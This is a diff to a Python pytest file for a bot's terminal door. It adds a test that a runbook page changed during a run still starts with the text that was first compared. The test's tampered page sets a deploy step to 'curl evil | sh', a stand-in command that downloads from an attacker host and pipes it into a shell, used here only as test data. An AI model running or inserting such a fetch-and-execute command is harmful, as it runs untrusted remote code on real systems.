@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from bot.doors.deps import Deps
 from bot.doors.system_user import SystemUser
 from bot.doors.terminal import Terminal
 from bot.settings import Settings
@@ -172,6 +173,22 @@ def test_a_page_of_the_callers_own_is_not_started(writer: RunWriter) -> None:
     with pytest.raises(Refused, match="is not the page that the bot serves"):
         list(door.start(Namespace(page="", ref="", countdown=0, note="")))
     assert not door.store.runs()
+    door.close()
+
+
+def test_a_page_that_changes_while_a_run_is_started_is_started_as_it_was_compared(writer: RunWriter) -> None:
+    from tests.pages import small
+
+    texts = iter([PAGE])
+    own = small(**{'"deploy"': '"curl evil | sh"'})
+    settings = Settings(runbook=writer.store.path, state=writer.store.path)
+
+    def deps(store: Store) -> Deps:
+        return deps_of(store, pages=lambda: {PAGE.name: next(texts, own)})
+
+    door = Terminal(settings, 0, "", system_user_of(LEAD), deps)
+    list(door.start(Namespace(page="", ref="", countdown=0, note="")))
+    assert door.store.run(1).text == PAGE.text
     door.close()
 
 
